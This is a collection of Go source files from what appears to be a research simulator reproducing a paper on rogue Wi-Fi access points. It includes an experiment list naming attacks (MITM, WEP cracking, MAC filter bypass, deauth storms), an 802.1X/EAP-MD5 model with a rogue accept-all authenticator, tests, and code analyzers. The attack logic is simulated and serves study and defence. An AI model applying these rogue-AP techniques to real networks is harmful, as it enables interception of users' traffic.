		cfg := core.Config{
			Seed: p.seed, WEPKey: sc.key, VPNServer: sc.vpn, VPNCarrier: sc.carrier,
			VictimPos: phyPos(20), FileContents: file,
		}
		w := core.NewWorld(cfg)
		w.VictimConnect()
		w.Run(10 * sim.Second)
		if sc.vpn {
			up := false
			w.EnableVictimVPN(nil, func(err error) { up = err == nil })
			w.Run(20 * sim.Second)
			if !up {
				return -1
			}
		}
		start := w.Kernel.Now()
		var doneAt sim.Time
		var res core.DownloadResult
		w.VictimDownload(func(r core.DownloadResult) { res = r; doneAt = w.Kernel.Now() })
		w.Run(2 * sim.Minute)
		if res.Err != nil || !res.Clean() {
			return -1
		}
		return (doneAt - start).Seconds()
	})
	// The "relative" column divides by the first scenario's mean, so rows are
	// assembled sequentially even though the trials ran in one flat sweep.
	var baseline float64
	for i, sc := range scenarios {
		var times []float64
		for _, r := range results[i*s.trials() : (i+1)*s.trials()] {
			if r > 0 {
				times = append(times, r)
			}
		}
		if len(times) == 0 {
			t.AddRow(sc.name, "failed", "-", "-")
			continue
		}
		mean := core.Mean(times)
		if baseline == 0 {
			baseline = mean
		}
		t.AddRow(sc.name, fmt.Sprintf("%.3f", mean),
			fmt.Sprintf("%.0f", float64(len(file))/mean/1000),
			fmt.Sprintf("%.2fx", mean/baseline))
	}
	return t
}

// DownloadPageBytes is exported for cmd/roguesim's report.
func DownloadPageBytes(site *httpx.DownloadSite) int { return len(site.PageHTML()) }

// All runs every experiment at the given scale.
func All(s Scale) []Table {
	return []Table{
		E1AssociationCapture(s),
		E2DownloadMITM(s),
		E2bBoundary(s),
		E2cContentInjection(s),
		E2dHostileHotspot(s),
		E3VPNDefense(s),
		E4FMSCrack(s),
		E5MACFilterBypass(s),
		E6TCPoverTCP(s),
		E7Detection(s),
		E8Eavesdrop(s),
		E9Overhead(s),
		E10DeauthStorm(s),
		E11APOutage(s),
		E12BurstLoss(s),
		E13FirstHopRogue(s),
		E14RelayChainChaos(s),
		E15CampusScale(s),
	}
}
