package auth8021x

import (
	"bytes"
	"testing"
)

// FuzzParseEAP drives the EAP packet parser: arbitrary bytes must never
// panic, and anything accepted must round-trip through the eap() builder.
// (parseEAP tolerates trailing bytes beyond the declared length; eap()
// re-encodes without them, so the round trip normalises that.)
func FuzzParseEAP(f *testing.F) {
	f.Add(eap(eapRequest, 1, eapTypeIdentity, nil))
	f.Add(eap(eapResponse, 1, eapTypeIdentity, []byte("user1")))
	f.Add(eap(eapRequest, 2, eapTypeMD5, bytes.Repeat([]byte{0xab}, 16)))
	f.Add(eap(eapSuccess, 3, 0, nil))
	f.Add(eap(eapFailure, 3, 0, nil))
	f.Add([]byte{1, 1, 0, 3})
	f.Fuzz(func(t *testing.T, b []byte) {
		code, id, typ, data, err := parseEAP(b)
		if err != nil {
			return
		}
		// Success/Failure re-encode as 4-byte packets; Request/Response
		// carry type+data. Other codes are preserved by parseEAP but eap()
		// builds them bodiless, so only round-trip the four real codes.
		if code != eapRequest && code != eapResponse && code != eapSuccess && code != eapFailure {
			return
		}
		b2 := eap(code, id, typ, data)
		code2, id2, typ2, data2, err := parseEAP(b2)
		if err != nil {
			t.Fatalf("re-parse of rebuilt EAP packet failed: %v", err)
		}
		if code2 != code || id2 != id {
			t.Fatalf("EAP code/id round-trip unstable: %d/%d != %d/%d", code2, id2, code, id)
		}
		if code == eapRequest || code == eapResponse {
			if typ2 != typ || !bytes.Equal(data2, data) {
				t.Fatalf("EAP type/data round-trip unstable")
			}
		}
	})
}

// FuzzEAPOL checks the EAPOL framing layer feeding parseEAP, as the
// authenticator's onEAPOL consumes both in sequence.
func FuzzEAPOL(f *testing.F) {
	f.Add(eapol(eapolStart, nil))
	f.Add(eapol(eapolEAPPacket, eap(eapResponse, 1, eapTypeIdentity, []byte("user1"))))
	f.Add([]byte{1})
	f.Fuzz(func(t *testing.T, b []byte) {
		if len(b) < 2 {
			return
		}
		// Mirror onEAPOL's framing: version || type || body, where an
		// EAP-Packet body goes to parseEAP. Must not panic on anything.
		if b[1] == eapolEAPPacket {
			_, _, _, _, _ = parseEAP(b[2:])
		}
	})
}
