// Package auth8021x models the IEEE 802.1X port-based access control the
// paper's Section 2.2 discusses: EAPOL between a supplicant (client) and an
// authenticator (AP) backed by an authentication server, using EAP-MD5 (the
// era's baseline method).
//
// The package exists to demonstrate the paper's §2.2 verdict precisely:
// 802.1x authenticates the CLIENT to the NETWORK, but "there is no
// authentication of the network. Without this mutual authentication, there
// is no guarantee that the client connects to the desired network and thus
// cannot trust the AP it connects to." Concretely: a rogue authenticator
// that simply answers EAP-Success passes every supplicant (see
// NewAcceptAllAuthenticator and the tests), so 802.1x adds nothing against
// the paper's rogue-AP MITM.
package auth8021x

import (
	"bytes"
	"crypto/md5"
	"fmt"

	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/pkt"
	"repro/internal/sim"
)

// EtherTypeEAPOL is the EAP-over-LAN ethertype.
const EtherTypeEAPOL ethernet.EtherType = 0x888e

// PAEGroupMAC is the port-access-entity group address supplicants send
// EAPOL-Start to.
var PAEGroupMAC = ethernet.MAC{0x01, 0x80, 0xc2, 0x00, 0x00, 0x03}

// EAPOL packet types.
const (
	eapolEAPPacket byte = 0
	eapolStart     byte = 1
	eapolLogoff    byte = 2
)

// EAP codes.
const (
	eapRequest  byte = 1
	eapResponse byte = 2
	eapSuccess  byte = 3
	eapFailure  byte = 4
)

// EAP methods.
const (
	eapTypeIdentity byte = 1
	eapTypeMD5      byte = 4
)

// eapol builds version(1)=1 | type(1) | body.
func eapol(typ byte, body []byte) []byte {
	out := make([]byte, 2+len(body))
	out[0], out[1] = 1, typ
	copy(out[2:], body)
	return out
}

// eap builds code(1) | id(1) | len(2) | [type(1) | data].
func eap(code, id, typ byte, data []byte) []byte {
	n := 4
	if code == eapRequest || code == eapResponse {
		n += 1 + len(data)
	}
	out := make([]byte, n)
	out[0], out[1] = code, id
	out[2], out[3] = byte(n>>8), byte(n)
	if n > 4 {
		out[4] = typ
		copy(out[5:], data)
	}
	return out
}

// parseEAP splits an EAP packet; typ/data are zero/nil for Success/Failure.
func parseEAP(b []byte) (code, id, typ byte, data []byte, err error) {
	if len(b) < 4 {
		return 0, 0, 0, nil, fmt.Errorf("auth8021x: short EAP packet")
	}
	n := int(b[2])<<8 | int(b[3])
	if n < 4 || n > len(b) {
		return 0, 0, 0, nil, fmt.Errorf("auth8021x: bad EAP length")
	}
	code, id = b[0], b[1]
	if n > 4 {
		typ = b[4]
		data = b[5:n]
	}
	return code, id, typ, data, nil
}

// md5Response computes the EAP-MD5 proof: MD5(id || password || challenge),
// per the CHAP construction EAP-MD5 borrows.
func md5Response(id byte, password string, challenge []byte) []byte {
	h := md5.New()
	h.Write([]byte{id})
	h.Write([]byte(password))
	h.Write(challenge)
	return h.Sum(nil)
}

// Server is the authentication backend (the RADIUS stand-in): a credential
// store that issues challenges and verifies proofs.
type Server struct {
	creds map[string]string
	rng   *sim.RNG
}

// NewServer builds a backend over a user→password map.
func NewServer(rng *sim.RNG, creds map[string]string) *Server {
	cp := make(map[string]string, len(creds))
	for u, p := range creds {
		cp[u] = p
	}
	return &Server{creds: cp, rng: rng}
}

// Challenge issues a fresh 16-byte challenge.
func (s *Server) Challenge() []byte {
	c := make([]byte, 16)
	s.rng.Bytes(c)
	return c
}

// Verify checks an EAP-MD5 proof for the identified user.
func (s *Server) Verify(identity string, id byte, challenge, proof []byte) bool {
	pw, ok := s.creds[identity]
	if !ok {
		return false
	}
	return bytes.Equal(md5Response(id, pw, challenge), proof)
}

// portState tracks one supplicant on the authenticator.
type portState struct {
	identity   string
	eapID      byte
	challenge  []byte
	authorized bool
}

// Authenticator runs the AP side of 802.1x: it owns the AP's host NIC for
// EAPOL traffic and gates the AP's distribution port per station.
type Authenticator struct {
	ap     *dot11.AP
	nic    ethernet.NIC
	server *Server
	// acceptAll makes this a rogue authenticator: every supplicant gets
	// EAP-Success without credentials being checked — the §2.2 flaw.
	acceptAll bool
	ports     map[ethernet.MAC]*portState

	// Counters.
	Successes, Failures uint64
}

// NewAuthenticator attaches 802.1x to an AP, backed by server.
func NewAuthenticator(ap *dot11.AP, server *Server) *Authenticator {
	a := &Authenticator{ap: ap, nic: ap.HostNIC(), server: server, ports: make(map[ethernet.MAC]*portState)}
	a.install()
	return a
}

// NewAcceptAllAuthenticator attaches a rogue authenticator that authorizes
// everyone. A supplicant cannot distinguish it from the real thing.
func NewAcceptAllAuthenticator(ap *dot11.AP) *Authenticator {
	a := &Authenticator{ap: ap, nic: ap.HostNIC(), acceptAll: true, ports: make(map[ethernet.MAC]*portState)}
	a.install()
	return a
}

func (a *Authenticator) install() {
	a.nic.SetReceiver(func(f ethernet.Frame) {
		if f.Type == EtherTypeEAPOL {
			a.onEAPOL(f.Src, f.Payload)
		}
	})
	a.ap.PortGate = func(src ethernet.MAC, t ethernet.EtherType) bool {
		if t == EtherTypeEAPOL {
			return true // the uncontrolled port
		}
		st, ok := a.ports[src]
		return ok && st.authorized
	}
}

// Authorized reports a station's port status.
func (a *Authenticator) Authorized(mac ethernet.MAC) bool {
	st, ok := a.ports[mac]
	return ok && st.authorized
}

func (a *Authenticator) send(dst ethernet.MAC, eapPkt []byte) {
	a.nic.Send(dst, EtherTypeEAPOL, eapol(eapolEAPPacket, eapPkt))
}

func (a *Authenticator) onEAPOL(src ethernet.MAC, payload []byte) {
	if len(payload) < 2 || payload[0] != 1 {
		return
	}
	st := a.ports[src]
	if st == nil {
		st = &portState{}
		a.ports[src] = st
	}
	switch payload[1] {
	case eapolStart:
		st.authorized = false
		st.eapID++
		a.send(src, eap(eapRequest, st.eapID, eapTypeIdentity, nil))
	case eapolLogoff:
		st.authorized = false
	case eapolEAPPacket:
		code, id, typ, data, err := parseEAP(payload[2:])
		if err != nil || code != eapResponse || id != st.eapID {
			return
		}
		switch typ {
		case eapTypeIdentity:
			st.identity = string(data)
			if a.acceptAll {
				// The rogue doesn't bother challenging.
				st.authorized = true
				a.Successes++
				a.send(src, eap(eapSuccess, id, 0, nil))
				return
			}
			st.eapID++
			st.challenge = a.server.Challenge()
			// EAP-MD5 request data: value-size(1) || challenge.
			req := append([]byte{byte(len(st.challenge))}, st.challenge...)
			a.send(src, eap(eapRequest, st.eapID, eapTypeMD5, req))
		case eapTypeMD5:
			if a.acceptAll {
				st.authorized = true
				a.Successes++
				a.send(src, eap(eapSuccess, id, 0, nil))
				return
			}
			if len(data) < 1 || int(data[0]) > len(data)-1 {
				return
			}
			proof := data[1 : 1+data[0]]
			if st.challenge != nil && a.server.Verify(st.identity, id, st.challenge, proof) {
				st.authorized = true
				a.Successes++
				a.send(src, eap(eapSuccess, id, 0, nil))
			} else {
				a.Failures++
				a.send(src, eap(eapFailure, id, 0, nil))
			}
		}
	}
}

// Supplicant runs the client side. It wraps the station NIC: EAPOL frames
// are consumed by the supplicant, everything else flows to the receiver the
// IP stack installs. Note what it CANNOT do: verify who is asking — EAP-MD5
// authenticates only the client.
type Supplicant struct {
	nic      ethernet.NIC
	inner    ethernet.Receiver
	identity string
	password string
	// OnResult fires on EAP Success/Failure.
	OnResult func(success bool)

	authorized bool
	// Successes and Failures count completed exchanges.
	Successes, Failures uint64
}

// NewSupplicant wraps a station NIC with 802.1x. Attach the IP stack to the
// returned supplicant instead of the raw NIC.
func NewSupplicant(nic ethernet.NIC, identity, password string) *Supplicant {
	s := &Supplicant{nic: nic, identity: identity, password: password}
	nic.SetReceiver(func(f ethernet.Frame) {
		if f.Type == EtherTypeEAPOL {
			s.onEAPOL(f.Payload)
			return
		}
		if s.inner != nil {
			s.inner(f)
		}
	})
	return s
}

// Authorized reports whether the exchange succeeded.
func (s *Supplicant) Authorized() bool { return s.authorized }

// Start begins (or restarts) authentication: EAPOL-Start to the PAE group.
func (s *Supplicant) Start() {
	s.authorized = false
	s.nic.Send(PAEGroupMAC, EtherTypeEAPOL, eapol(eapolStart, nil))
}

func (s *Supplicant) onEAPOL(payload []byte) {
	if len(payload) < 2 || payload[1] != eapolEAPPacket {
		return
	}
	code, id, typ, data, err := parseEAP(payload[2:])
	if err != nil {
		return
	}
	switch code {
	case eapRequest:
		switch typ {
		case eapTypeIdentity:
			resp := eap(eapResponse, id, eapTypeIdentity, []byte(s.identity))
			s.nic.Send(PAEGroupMAC, EtherTypeEAPOL, eapol(eapolEAPPacket, resp))
		case eapTypeMD5:
			if len(data) < 1 || int(data[0]) > len(data)-1 {
				return
			}
			challenge := data[1 : 1+data[0]]
			proof := md5Response(id, s.password, challenge)
			body := append([]byte{byte(len(proof))}, proof...)
			resp := eap(eapResponse, id, eapTypeMD5, body)
			s.nic.Send(PAEGroupMAC, EtherTypeEAPOL, eapol(eapolEAPPacket, resp))
		}
	case eapSuccess:
		// This is the flaw: Success is a bare, unauthenticated code. The
		// supplicant believes whoever sends it.
		s.authorized = true
		s.Successes++
		if s.OnResult != nil {
			s.OnResult(true)
		}
	case eapFailure:
		s.authorized = false
		s.Failures++
		if s.OnResult != nil {
			s.OnResult(false)
		}
	}
}

// --- ethernet.NIC passthrough so the IP stack can sit on top ---

// HWAddr implements ethernet.NIC.
func (s *Supplicant) HWAddr() ethernet.MAC { return s.nic.HWAddr() }

// MTU implements ethernet.NIC.
func (s *Supplicant) MTU() int { return s.nic.MTU() }

// SetReceiver implements ethernet.NIC (the IP stack's receiver).
func (s *Supplicant) SetReceiver(r ethernet.Receiver) { s.inner = r }

// Send implements ethernet.NIC.
func (s *Supplicant) Send(dst ethernet.MAC, t ethernet.EtherType, payload []byte) {
	s.nic.Send(dst, t, payload)
}

// SendBuf implements ethernet.NIC, passing ownership straight through.
func (s *Supplicant) SendBuf(dst ethernet.MAC, t ethernet.EtherType, pb *pkt.Buf) {
	s.nic.SendBuf(dst, t, pb)
}

var _ ethernet.NIC = (*Supplicant)(nil)
