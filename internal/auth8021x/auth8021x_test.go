package auth8021x

import (
	"testing"
	"testing/quick"

	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/sim"
)

var (
	bssid  = ethernet.MustParseMAC("02:aa:bb:cc:dd:01")
	staMAC = ethernet.MustParseMAC("02:00:00:00:03:01")
)

// world: one AP with an authenticator, one station with a supplicant that
// starts 802.1x upon association.
type world struct {
	k    *sim.Kernel
	m    *phy.Medium
	ap   *dot11.AP
	sta  *dot11.STA
	auth *Authenticator
	supp *Supplicant
}

func newWorld(t *testing.T, creds map[string]string, user, pass string, rogue bool) *world {
	t.Helper()
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	ap := dot11.NewAP(k, m.AddRadio(phy.RadioConfig{Name: "ap", Channel: 1}),
		dot11.APConfig{SSID: "CORP", BSSID: bssid, Channel: 1})
	var auth *Authenticator
	if rogue {
		auth = NewAcceptAllAuthenticator(ap)
	} else {
		auth = NewAuthenticator(ap, NewServer(k.RNG().Fork(), creds))
	}
	sta := dot11.NewSTA(k, m.AddRadio(phy.RadioConfig{Name: "sta", Pos: phy.Position{X: 10}, Channel: 1}),
		dot11.STAConfig{MAC: staMAC, SSID: "CORP"})
	supp := NewSupplicant(sta.NIC(), user, pass)
	sta.OnAssociate = func(dot11.BSS) { supp.Start() }
	sta.Connect()
	return &world{k: k, m: m, ap: ap, sta: sta, auth: auth, supp: supp}
}

func TestEAPMD5Success(t *testing.T) {
	w := newWorld(t, map[string]string{"alice": "hunter2"}, "alice", "hunter2", false)
	w.k.RunUntil(10 * sim.Second)
	if !w.supp.Authorized() {
		t.Fatal("supplicant not authorized with valid credentials")
	}
	if !w.auth.Authorized(staMAC) {
		t.Fatal("authenticator does not list the port as authorized")
	}
	if w.auth.Successes != 1 {
		t.Fatalf("Successes = %d", w.auth.Successes)
	}
}

func TestEAPMD5WrongPassword(t *testing.T) {
	w := newWorld(t, map[string]string{"alice": "hunter2"}, "alice", "wrong", false)
	w.k.RunUntil(10 * sim.Second)
	if w.supp.Authorized() {
		t.Fatal("authorized with wrong password")
	}
	if w.auth.Failures == 0 {
		t.Fatal("no failure recorded")
	}
}

func TestEAPUnknownUser(t *testing.T) {
	w := newWorld(t, map[string]string{"alice": "hunter2"}, "mallory", "hunter2", false)
	w.k.RunUntil(10 * sim.Second)
	if w.supp.Authorized() {
		t.Fatal("unknown identity authorized")
	}
}

func TestPortGateBlocksUnauthorized(t *testing.T) {
	// Station with wrong credentials associates at the 802.11 layer but its
	// IP-ish traffic must be dropped at the controlled port.
	w := newWorld(t, map[string]string{"alice": "hunter2"}, "alice", "wrong", false)
	w.k.RunUntil(10 * sim.Second)
	before := w.ap.GateDrops
	w.supp.Send(bssid, ethernet.TypeIPv4, []byte("sneaky"))
	w.k.RunFor(sim.Second)
	if w.ap.GateDrops != before+1 {
		t.Fatalf("GateDrops %d -> %d, want +1", before, w.ap.GateDrops)
	}
}

func TestPortGatePassesAuthorized(t *testing.T) {
	w := newWorld(t, map[string]string{"alice": "hunter2"}, "alice", "hunter2", false)
	w.k.RunUntil(10 * sim.Second)
	if !w.supp.Authorized() {
		t.Fatal("setup: not authorized")
	}
	// Attach a wired host behind the AP and confirm traffic passes.
	var alloc ethernet.MACAllocator
	sw := ethernet.NewSwitch(w.k, &alloc, ethernet.SwitchConfig{})
	w.ap.AttachUplink(sw.Attach(alloc.Next()))
	dstMAC := ethernet.MustParseMAC("02:00:00:00:ee:01")
	port := sw.Attach(dstMAC)
	var got []byte
	port.SetReceiver(func(f ethernet.Frame) { got = append([]byte{}, f.Payload...) })
	w.supp.Send(dstMAC, ethernet.TypeIPv4, []byte("legit"))
	w.k.RunFor(sim.Second)
	if string(got) != "legit" {
		t.Fatalf("authorized traffic did not pass: %q", got)
	}
}

func TestRogueAcceptAllPassesAnySupplicant(t *testing.T) {
	// The paper's §2.2 point, executable: the supplicant presents no
	// defense against a network that just says "Success". Credentials are
	// garbage; the rogue authorizes anyway; the client cannot tell.
	w := newWorld(t, nil, "whoever", "whatever", true)
	w.k.RunUntil(10 * sim.Second)
	if !w.supp.Authorized() {
		t.Fatal("rogue accept-all authenticator failed to fool the supplicant")
	}
	if !w.auth.Authorized(staMAC) {
		t.Fatal("rogue did not open the port")
	}
}

func TestSupplicantIndistinguishability(t *testing.T) {
	// Same supplicant config against the real network and the rogue: both
	// end Authorized. There is no observable the client could branch on —
	// which is exactly why the paper demands a VPN to a *pre-arranged*
	// endpoint instead.
	real := newWorld(t, map[string]string{"alice": "hunter2"}, "alice", "hunter2", false)
	real.k.RunUntil(10 * sim.Second)
	rogue := newWorld(t, nil, "alice", "hunter2", true)
	rogue.k.RunUntil(10 * sim.Second)
	if !real.supp.Authorized() || !rogue.supp.Authorized() {
		t.Fatalf("real=%v rogue=%v — both should authorize", real.supp.Authorized(), rogue.supp.Authorized())
	}
}

func TestLogoffClosesPort(t *testing.T) {
	w := newWorld(t, map[string]string{"alice": "hunter2"}, "alice", "hunter2", false)
	w.k.RunUntil(10 * sim.Second)
	if !w.auth.Authorized(staMAC) {
		t.Fatal("setup: not authorized")
	}
	w.supp.Send(PAEGroupMAC, EtherTypeEAPOL, eapol(eapolLogoff, nil))
	w.k.RunFor(sim.Second)
	if w.auth.Authorized(staMAC) {
		t.Fatal("port still open after logoff")
	}
}

func TestEAPParsing(t *testing.T) {
	pkt := eap(eapRequest, 7, eapTypeIdentity, []byte("who?"))
	code, id, typ, data, err := parseEAP(pkt)
	if err != nil || code != eapRequest || id != 7 || typ != eapTypeIdentity || string(data) != "who?" {
		t.Fatalf("parsed code=%d id=%d typ=%d data=%q err=%v", code, id, typ, data, err)
	}
	if _, _, _, _, err := parseEAP([]byte{1, 2}); err == nil {
		t.Fatal("short EAP accepted")
	}
	if _, _, _, _, err := parseEAP([]byte{1, 2, 0, 99}); err == nil {
		t.Fatal("bad length accepted")
	}
	// Success has no type/data.
	s := eap(eapSuccess, 3, 0, nil)
	if len(s) != 4 {
		t.Fatalf("success len %d", len(s))
	}
}

func TestMD5ResponseDeterministic(t *testing.T) {
	a := md5Response(1, "pw", []byte("challenge"))
	b := md5Response(1, "pw", []byte("challenge"))
	c := md5Response(2, "pw", []byte("challenge"))
	if string(a) != string(b) {
		t.Fatal("nondeterministic")
	}
	if string(a) == string(c) {
		t.Fatal("id not mixed in")
	}
}

// EAP/EAPOL handlers must never panic on arbitrary bytes.
func TestQuickEAPOLNoPanic(t *testing.T) {
	w := newWorld(t, map[string]string{"a": "b"}, "a", "b", false)
	w.k.RunUntil(2 * sim.Second)
	f := func(b []byte) bool {
		w.auth.onEAPOL(staMAC, b)
		w.supp.onEAPOL(b)
		_, _, _, _, _ = parseEAP(b)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Fatal(err)
	}
}
