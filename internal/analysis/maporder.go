package analysis

import (
	"fmt"
	"go/ast"
	"go/types"
	"strings"

	"golang.org/x/tools/go/analysis"
	"golang.org/x/tools/go/analysis/passes/inspect"
	"golang.org/x/tools/go/ast/inspector"
)

// MaporderAnalyzer flags `for range` over a map whose body does
// order-sensitive work: appending to a slice, writing output, mixing the
// trace digest, scheduling kernel events, or returning a value picked by the
// iteration. Go randomizes map iteration order per run, so any of those leaks
// nondeterminism straight into the digest — the exact bug class PR 1 fixed
// by hand four times (httpx header order, dot11.AssociatedStations,
// attack.MACHarvester, STA.pickBSS).
//
// The one blessed pattern is collect-then-sort: a body that only appends into
// local slices is exempt when every such slice is sorted afterwards in an
// enclosing block.
var MaporderAnalyzer = &analysis.Analyzer{
	Name:       "maporder",
	Doc:        "flag order-sensitive work inside for-range over a map without a subsequent sort",
	Requires:   []*analysis.Analyzer{inspect.Analyzer},
	ResultType: SuppressionsType,
	Run:        runMaporder,
}

func runMaporder(pass *analysis.Pass) (any, error) {
	rep := NewReporter(pass)
	insp := pass.ResultOf[inspect.Analyzer].(*inspector.Inspector)
	insp.WithStack([]ast.Node{(*ast.RangeStmt)(nil)}, func(n ast.Node, push bool, stack []ast.Node) bool {
		if !push {
			return true
		}
		rng := n.(*ast.RangeStmt)
		t := pass.TypesInfo.TypeOf(rng.X)
		if t == nil {
			return true
		}
		if _, ok := t.Underlying().(*types.Map); !ok {
			return true
		}
		checkMapRange(pass, rep, rng, stack)
		return true
	})
	return rep.Finish(), nil
}

func checkMapRange(pass *analysis.Pass, rep *Reporter, rng *ast.RangeStmt, stack []ast.Node) {
	rangeVars := map[types.Object]bool{}
	for _, e := range []ast.Expr{rng.Key, rng.Value} {
		if id, ok := e.(*ast.Ident); ok && id.Name != "_" {
			if obj := pass.TypesInfo.ObjectOf(id); obj != nil {
				rangeVars[obj] = true
			}
		}
	}

	// Pass 1: find append calls that land in an assignment, keyed by the
	// root object of the assignment target.
	appendTargets := map[types.Object]ast.Node{}
	appendCalls := map[*ast.CallExpr]bool{}
	looseAppend := false
	ast.Inspect(rng.Body, func(n ast.Node) bool {
		as, ok := n.(*ast.AssignStmt)
		if !ok {
			return true
		}
		for i, rhs := range as.Rhs {
			call, ok := rhs.(*ast.CallExpr)
			if !ok || !isBuiltin(pass, call.Fun, "append") {
				continue
			}
			appendCalls[call] = true
			if i < len(as.Lhs) {
				if obj := rootObject(pass, as.Lhs[i]); obj != nil {
					if _, seen := appendTargets[obj]; !seen {
						appendTargets[obj] = as
					}
					continue
				}
			}
			looseAppend = true
		}
		return true
	})

	// Pass 2: other order-sensitive triggers.
	var reason string
	note := func(r string) {
		if reason == "" {
			reason = r
		}
	}
	if looseAppend {
		note("appends to a slice")
	}
	ast.Inspect(rng.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.CallExpr:
			if appendCalls[n] || isBuiltin(pass, n.Fun, "append") {
				return true // handled by the collect-then-sort exemption
			}
			sel, ok := n.Fun.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			obj := pass.TypesInfo.Uses[sel.Sel]
			fn, ok := obj.(*types.Func)
			if !ok {
				return true
			}
			sig := fn.Type().(*types.Signature)
			switch {
			case sig.Recv() == nil && fn.Pkg() != nil && fn.Pkg().Path() == "fmt" &&
				(strings.HasPrefix(fn.Name(), "Print") || strings.HasPrefix(fn.Name(), "Fprint")):
				note(fmt.Sprintf("writes output via fmt.%s", fn.Name()))
			case sig.Recv() != nil && writeMethods[fn.Name()]:
				note(fmt.Sprintf("writes output via %s", fn.Name()))
			case sig.Recv() != nil && fn.Name() == "MixDigest":
				note("mixes the trace digest")
			case sig.Recv() != nil && (fn.Name() == "At" || fn.Name() == "After") && recvIsKernel(sig):
				note("schedules kernel events")
			}
		case *ast.ReturnStmt:
			for _, res := range n.Results {
				usesAny := false
				ast.Inspect(res, func(m ast.Node) bool {
					if id, ok := m.(*ast.Ident); ok && rangeVars[pass.TypesInfo.ObjectOf(id)] {
						usesAny = true
					}
					return !usesAny
				})
				if usesAny {
					note("returns a value chosen by the iteration")
					break
				}
			}
		}
		return true
	})

	if reason != "" {
		rep.Reportf(rng.X, "range over map %s %s; map iteration order is random — extract the keys, sort them, and iterate the slice", exprString(pass, rng.X), reason)
		return
	}

	// Collect-then-sort exemption: every appended slice must be sorted in a
	// following statement of some enclosing block (up to the function edge).
	for obj, site := range appendTargets {
		if !sortedAfter(pass, stack, obj) {
			rep.Reportf(site.(*ast.AssignStmt), "collects from map %s into %q without sorting it afterwards; the slice inherits random map iteration order", exprString(pass, rng.X), obj.Name())
		}
	}
}

// writeMethods are method names that emit bytes somewhere order matters:
// io.Writer implementations, strings.Builder, bufio.Writer, hash.Hash.
var writeMethods = map[string]bool{
	"Write":       true,
	"WriteString": true,
	"WriteByte":   true,
	"WriteRune":   true,
}

// recvIsKernel reports whether the method receiver is a named type called
// Kernel (the sim kernel, or a fixture standing in for it).
func recvIsKernel(sig *types.Signature) bool {
	t := sig.Recv().Type()
	if p, ok := t.(*types.Pointer); ok {
		t = p.Elem()
	}
	named, ok := t.(*types.Named)
	return ok && named.Obj().Name() == "Kernel"
}

// isBuiltin reports whether fun denotes the named Go builtin.
func isBuiltin(pass *analysis.Pass, fun ast.Expr, name string) bool {
	id, ok := ast.Unparen(fun).(*ast.Ident)
	if !ok || id.Name != name {
		return false
	}
	_, ok = pass.TypesInfo.Uses[id].(*types.Builtin)
	return ok
}

// rootObject unwraps selectors/indexing/stars to the base identifier's object:
// x, x.f, x[i].f all root at x.
func rootObject(pass *analysis.Pass, e ast.Expr) types.Object {
	for {
		switch v := ast.Unparen(e).(type) {
		case *ast.Ident:
			return pass.TypesInfo.ObjectOf(v)
		case *ast.SelectorExpr:
			e = v.X
		case *ast.IndexExpr:
			e = v.X
		case *ast.StarExpr:
			e = v.X
		default:
			return nil
		}
	}
}

// sortedAfter reports whether some statement after the range statement — in
// its own block or any enclosing block up to the nearest function literal or
// declaration — sorts the slice rooted at obj.
func sortedAfter(pass *analysis.Pass, stack []ast.Node, obj types.Object) bool {
	// stack[len-1] is the RangeStmt; walk outward.
	child := stack[len(stack)-1]
	for i := len(stack) - 2; i >= 0; i-- {
		switch parent := stack[i].(type) {
		case *ast.BlockStmt:
			if sortInTail(pass, parent.List, child, obj) {
				return true
			}
		case *ast.CaseClause:
			if sortInTail(pass, parent.Body, child, obj) {
				return true
			}
		case *ast.CommClause:
			if sortInTail(pass, parent.Body, child, obj) {
				return true
			}
		case *ast.FuncLit, *ast.FuncDecl:
			return false
		}
		child = stack[i]
	}
	return false
}

// sortInTail scans the statements after child in list for a sort call
// covering obj.
func sortInTail(pass *analysis.Pass, list []ast.Stmt, child ast.Node, obj types.Object) bool {
	idx := -1
	for i, s := range list {
		if s == child || unlabel(s) == child {
			idx = i
			break
		}
	}
	if idx < 0 {
		return false
	}
	for _, s := range list[idx+1:] {
		found := false
		ast.Inspect(s, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok || found {
				return !found
			}
			if !isSortCall(pass, call) {
				return true
			}
			for _, arg := range call.Args {
				if rootObject(pass, arg) == obj {
					found = true
				}
			}
			return !found
		})
		if found {
			return true
		}
	}
	return false
}

func unlabel(s ast.Stmt) ast.Stmt {
	if l, ok := s.(*ast.LabeledStmt); ok {
		return l.Stmt
	}
	return s
}

// isSortCall recognizes the sort and slices package entry points.
func isSortCall(pass *analysis.Pass, call *ast.CallExpr) bool {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return false
	}
	fn, ok := pass.TypesInfo.Uses[sel.Sel].(*types.Func)
	if !ok || fn.Pkg() == nil {
		return false
	}
	switch fn.Pkg().Path() {
	case "sort":
		switch fn.Name() {
		case "Strings", "Ints", "Float64s", "Slice", "SliceStable", "Sort", "Stable":
			return true
		}
	case "slices":
		return strings.HasPrefix(fn.Name(), "Sort")
	}
	return false
}

// exprString renders a short source form of e for diagnostics.
func exprString(pass *analysis.Pass, e ast.Expr) string {
	switch v := ast.Unparen(e).(type) {
	case *ast.Ident:
		return v.Name
	case *ast.SelectorExpr:
		return exprString(pass, v.X) + "." + v.Sel.Name
	case *ast.CallExpr:
		return exprString(pass, v.Fun) + "(…)"
	default:
		return "value"
	}
}
