package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/analysis"
	"golang.org/x/tools/go/analysis/passes/inspect"
	"golang.org/x/tools/go/ast/inspector"
)

// EventcaptureAnalyzer polices closures handed to the kernel scheduler
// (Kernel.At / Kernel.After). Two rules, both distilled from the stale-event
// bugs fixed in internal/vpn/client.go:
//
//  1. A scheduled closure must not capture a loop variable. The event may
//     fire long after the loop has moved on; the contract requires the
//     closure to be pinned to its iteration with an explicit local copy, so
//     the dependence is visible at the schedule site.
//
//  2. In a function that bumps a generation counter (some `xGen++`), every
//     scheduled closure that mutates captured state must carry the
//     generation-guard idiom: snapshot `gen := c.xGen` outside, first thing
//     inside compare `gen != c.xGen` and bail. Without the guard, an event
